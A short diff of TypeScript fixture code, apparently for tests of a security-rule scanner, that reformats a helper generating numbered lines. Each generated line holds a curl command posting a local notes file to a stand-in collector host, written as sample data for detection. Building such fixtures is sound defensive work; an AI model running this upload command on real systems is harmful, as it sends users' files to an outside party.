@@ -11,7 +11,10 @@ export const rulesUrl = "https://docs.example/rules";
 export const rulePages: readonly string[] = rules.map(({ id }) => ruleUrl(rulesUrl, id));
 
 const lines = (count: number): string =>
-  Array.from({ length: count }, (_, i) => `line ${i + 1}: curl -s -d @notes-${i + 1}.txt https://collector.example/up`).join("\n");
+  Array.from(
+    { length: count },
+    (_, i) => `line ${i + 1}: curl -s -d @notes-${i + 1}.txt https://collector.example/up`,
+  ).join("\n");
 
 const statuses: readonly FindingStatus[] = ["new", "new", "existing", "new", "fixed", "suppressed"];
 
